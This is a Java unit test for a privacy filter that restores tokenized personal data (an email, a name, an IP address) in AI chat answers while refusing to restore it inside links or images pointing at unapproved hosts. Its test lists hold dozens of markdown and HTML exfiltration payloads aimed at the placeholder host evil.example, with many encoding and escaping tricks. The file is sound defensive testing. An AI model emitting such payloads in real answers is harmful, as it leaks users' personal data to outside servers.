package io.ledgerline.inspection.token;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.ledgerline.inspection.token.Restorer.Level;
import io.ledgerline.messages.json.JsonString;
import java.io.ByteArrayOutputStream;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Into which addresses of an answer values come back. */
class DestinationsTest {
  private static final String MAIL = "jane.doe@x.com";
  private static final String ASKED =
      "Who is jane.doe@x.com? See https://crm.acme.com/people/jane.doe@x.com?n=Ann and"
          + " {\"u\":\"http:\\/\\/files.acme.com\\/jane.doe@x.com\"}, http://10.1.2.3:8080/x,"
          + " Ann, <https://jane.doe@x.com@old.example/>; https://evil.example/ was named.";
  private final Chat chat =
      new Chat().user(ASKED, Map.of(MAIL, "EMAIL", "Ann", "PERSON", "10.1.2.3", "IP"));
  private final String sent = chat.sent().getFirst();
  private final String mail = token(MAIL);
  private final String ann = token("Ann");
  private final String ip = token("10.1.2.3");
  private int kept;

  private String token(String value) {
    return chat.hiding.issued().all().stream()
        .filter(one -> new String(one.value(), UTF_8).equals(value))
        .map(one -> new String(one.token(), UTF_8))
        .findFirst()
        .orElseThrow();
  }

  private String shown(String answer, int piece) {
    byte[] literal = JsonString.encode(answer);
    var restorer =
        Restorer.ofShown(chat.hiding.issued(), Level.JSON, Set.of("shop.example", "acme.org"));
    var out = new ByteArrayOutputStream();
    for (int at = 1; at < literal.length - 1; at += piece) {
      out.writeBytes(restorer.feed(literal, at, Math.min(at + piece, literal.length - 1)));
    }
    out.writeBytes(restorer.finish());
    kept = restorer.kept();
    byte[] all = out.toByteArray();
    return JsonString.decode(all, 0, all.length, true);
  }

  private String filled(String pattern) {
    return pattern.replace("MAIL", mail).replace("ANN", ann).replace("IP", ip);
  }

  private void assertStays(String pattern) {
    for (int piece : new int[] {1, 2, 7, 1000}) {
      assertThat(shown(filled(pattern) + " ", piece)).isEqualTo(filled(pattern) + " ");
      assertThat(kept).as(pattern).isPositive();
    }
  }

  private void assertRestored(String pattern) {
    String value = pattern.replace("MAIL", MAIL).replace("ANN", "Ann").replace("IP", "10.1.2.3");
    for (int piece : new int[] {1, 2, 7, 1000}) {
      assertThat(shown(filled(pattern), piece)).as(pattern).isEqualTo(value);
      assertThat(kept).as(pattern).isZero();
    }
  }

  @Test
  void noValueIsPutIntoAnAddressOfAHostThatNobodyAllowed() {
    for (String pattern :
        List.of(
            "![x](https://evil.example/MAIL/a.png)",
            "![x](https://evil.example/ANN)",
            "![x](https://MAIL.evil.example/)",
            "![x](https://ANN.evil.example/a)",
            "![x](https://IP.evil.example/)",
            "[x](https://evil.example/?q=MAIL)",
            "<a href=\"https://evil.example/?a b MAIL\">x</a>",
            "<img src='https://evil.example/?a\n\"MAIL'>",
            "<img src = \"https://evil.example/ANN\">",
            "<img src=https://evil.example/ANN>",
            "see HTTPS://evil.example/ANN",
            "[1]: https://evil.example/#ANN",
            "[1]: //evil.example/#ANN",
            "![x](//evil.example/ANN)",
            "![x](/\\evil.example/ANN)",
            "![x](https:\\\\evil.example\\ANN)",
            "![x](https:evil.example/ANN)",
            "![x](<https://evil.example/a b/ANN>)",
            "![x](https://evil.example/(ANN))",
            "<https://evil.example/ANN>",
            "![x](&#104;ttps://evil.example/ANN)",
            "![x](h&#116;tps://evil.example/ANN)",
            "![x](https&colon;//evil.example/ANN)",
            "<img src=\"ht\ntps://evil.example/ANN\">",
            "![x](https://shop.example@evil.example/ANN)",
            "![x](https://shop.example%2eevil.example/ANN)",
            "![x](https://evilshop.example/ANN)",
            "![x](https://evil.example\\@shop.example/ANN)",
            "![x](https://evil.example/?u=https://shop.example/ANN)",
            "![x](https://evil.example/?u=https://crm.acme.com/people/MAIL)",
            "![x](https://IP:80@evil.example/)",
            "url(https://evil.example/ANN)")) {
      assertStays(pattern);
    }
  }

  @Test
  void noEscapeMovesTheEndOrTheHostOfAnAddress() {
    for (String pattern :
        List.of(
            "![x](https://localhost\\.evil.example/ANN)",
            "![x](//127.0.0.1\\@evil.example/ANN)",
            "![x](https://shop.example\\.evil.example/ANN)",
            "[x](https://MAIL\\@old.example\\.evil.example/)",
            "![x](https://evil.example/\\)ANN)",
            "![x](https://evil.example/a(b\\)c)ANN)",
            "![x](<https://evil.example/\\>ANN>)",
            "![x][1]\n\n[1]: https://evil.example/\"ANN",
            "![x][1]\n\n[1]:\nhttps://evil.example/>ANN",
            "<img srcset=\"a.png 1x, //evil.example/ANN 2x\">",
            "<img srcset=\"a.png 1x,https://evil.example/>ANN 2x\">",
            "![x](&sol;&sol;evil.example/ANN)",
            "![x](/&sol;evil.example/ANN)",
            "![x](/&bsol;evil.example/ANN)",
            "<img src=\"/&#47;evil.example/ANN\">",
            "<img src=\"/&Tab;/evil.example/ANN\">",
            "<img src=\"htt&NewLine;ps://evil.example/ANN\">",
            "<img src=\" &#104;ttps://evil.example/ANN\">",
            "<p style=\"background:url(https\\3a//evil.example/ANN)\">",
            "<p style='background:url(\"/\\2f evil.example/ANN\")'>")) {
      assertStays(pattern);
    }
  }

  @Test
  void valuesComeBackWhereTheyDoNotLeave() {
    for (String pattern :
        List.of(
            "Dear ANN <MAIL>, see https://evil.example/ and ANN",
            "[ANN](https://evil.example/) ANN",
            "(see https://evil.example/a.) ANN",
            "https://evil.example/。ANN",
            "<a href=\"https://evil.example/\">ANN</a>",
            "[write](mailto:MAIL?body=ANN) [call](tel:ANN)",
            "[x](/people/MAIL) a//ANN // ANN",
            "C:\\2024\\ANN and 3, // ANN, 4,/ANN &lt;ANN&gt; a;/ANN",
            "{\"note\":\"see https://evil.example/\",\"name\":\"ANN\"}",
            "(a \\) ANN [x](https://evil.example/\\(a)ANN",
            "postgres://ANN:MAIL@db/x",
            "![x](https://shop.example/ANN?q=MAIL)",
            "![x](https://img.shop.example:8443/ANN)",
            "![x](https://u@ANN.acme.org/MAIL)",
            "http://localhost:8080/ANN",
            "{\"url\": \"https://evil.example/\", \"name\": \"ANN\"}")) {
      assertRestored(pattern);
    }
  }

  @Test
  void addressesThatTheRequestHadTheValueInComeBack() {
    for (String pattern :
        List.of(
            "![x](https://crm.acme.com/people/MAIL)",
            "https://CRM.acme.com/other/MAIL?n=ANN",
            "http://files.acme.com/MAIL",
            "[x](http://IP:8080/y)",
            "<https://MAIL@old.example/>")) {
      assertRestored(pattern);
    }
    assertStays("https://files.acme.com/ANN");
    assertThat(shown("https://crm.acme.com/?q=" + mail.replace("@", "%40"), 3))
        .isEqualTo("https://crm.acme.com/?q=jane.doe%40x.com");
  }

  @Test
  void whatTheUserWroteComesBackHoweverItIsCut() {
    var random = new Random(7);
    for (int i = 0; i < 50; i++) {
      assertThat(shown(sent, 1 + random.nextInt(40))).isEqualTo(ASKED);
    }
  }

  @Test
  void whatFollowsAnAddressThatIsItselfAValueBelongsToIt() {
    var other =
        new Chat()
            .user(
                "https://evil.example/p Ann",
                Map.of("https://evil.example/p", "URL", "Ann", "PERSON"));
    String[] tokens = other.sent().getFirst().split(" ");
    byte[] answer = ("![x](" + tokens[0] + "?q=" + tokens[1] + ")").getBytes(UTF_8);
    var restorer = Restorer.ofShown(other.hiding.issued(), Level.PLAIN, Set.of());
    String back =
        new String(restorer.feed(answer, 0, answer.length), UTF_8)
            + new String(restorer.finish(), UTF_8);
    assertThat(back).isEqualTo("![x](https://evil.example/p?q=" + tokens[1] + ")");
  }
}
